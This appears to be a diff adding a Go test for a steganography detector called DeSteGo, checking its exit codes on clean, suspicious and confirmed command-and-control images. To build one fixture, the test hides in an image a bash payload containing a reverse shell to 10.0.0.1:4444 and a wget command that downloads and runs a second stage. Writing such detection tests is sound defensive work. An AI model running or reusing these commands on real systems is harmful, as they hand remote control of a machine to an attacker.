@@ -0,0 +1,89 @@
+package main
+
+import (
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"DeSteGo/internal/fixtures"
+)
+
+// buildBinary compiles the command into a temporary directory
+func buildBinary(t *testing.T) string {
+	t.Helper()
+	if testing.Short() {
+		t.Skip("builds the binary")
+	}
+	binary := filepath.Join(t.TempDir(), "destego")
+	if out, err := exec.Command("go", "build", "-o", binary, ".").CombinedOutput(); err != nil {
+		t.Fatalf("failed to build: %v\n%s", err, out)
+	}
+	return binary
+}
+
+func TestExitCodes(t *testing.T) {
+	binary := buildBinary(t)
+
+	// A carrier whose LSBs hold a reverse shell, padded with random data over
+	// half the image for the LSB pair test to see the embedding
+	c2Image := filepath.Join(t.TempDir(), "c2.png")
+	img := fixtures.Carrier(128, 128, 6)
+	payload := []byte("#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nwget http://10.0.0.1/stage2 -O /tmp/s && chmod +x /tmp/s && nohup /tmp/s &\n")
+	payload = append(payload, fixtures.RandomPayload(3000, 7)...)
+	if err := fixtures.EmbedLSB(img, payload, []int{0, 1, 2}, 0); err != nil {
+		t.Fatal(err)
+	}
+	data, err := fixtures.Encode(img, "png")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(c2Image, data, 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name string
+		args []string
+		code int
+	}{
+		{"clean", []string{"-file", fixtures.Path("clean.png")}, exitClean},
+		{"clean with -failon", []string{"-file", fixtures.Path("clean.png"), "-failon", "0.5"}, exitClean},
+		{"suspicious without -failon", []string{"-file", fixtures.Path("lsb_rgb.png")}, exitClean},
+		{"suspicious", []string{"-file", fixtures.Path("lsb_rgb.png"), "-failon", "0.5"}, exitSuspicious},
+		{"confirmed C2", []string{"-file", c2Image, "-extract"}, exitConfirmed},
+		{"extract confirmed C2", []string{"extract", "-file", c2Image}, exitConfirmed},
+		{"unknown flag", []string{"-nosuchflag"}, exitError},
+		{"missing file", []string{"-file", filepath.Join(t.TempDir(), "missing.png")}, exitError},
+		{"extract without a file", []string{"extract"}, exitError},
+		{"extract unknown flag", []string{"extract", "-nosuchflag"}, exitError},
+		{"help", []string{"-h"}, exitClean},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cmd := exec.Command(binary, append(tt.args, "-outdir", t.TempDir(), "-nocache")...)
+			if tt.args[0] == "extract" {
+				cmd = exec.Command(binary, append(tt.args, "-outdir", t.TempDir())...)
+			}
+			out, err := cmd.CombinedOutput()
+			code := 0
+			var exitErr *exec.ExitError
+			if errors.As(err, &exitErr) {
+				code = exitErr.ExitCode()
+			} else if err != nil {
+				t.Fatal(err)
+			}
+			if code != tt.code {
+				t.Errorf("exit code %d, want %d\n%s", code, tt.code, lastLines(string(out), 10))
+			}
+		})
+	}
+}
+
+// lastLines returns the last n lines of text
+func lastLines(text string, n int) string {
+	lines := strings.Split(strings.TrimRight(text, "\n"), "\n")
+	return strings.Join(lines[max(len(lines)-n, 0):], "\n")
+}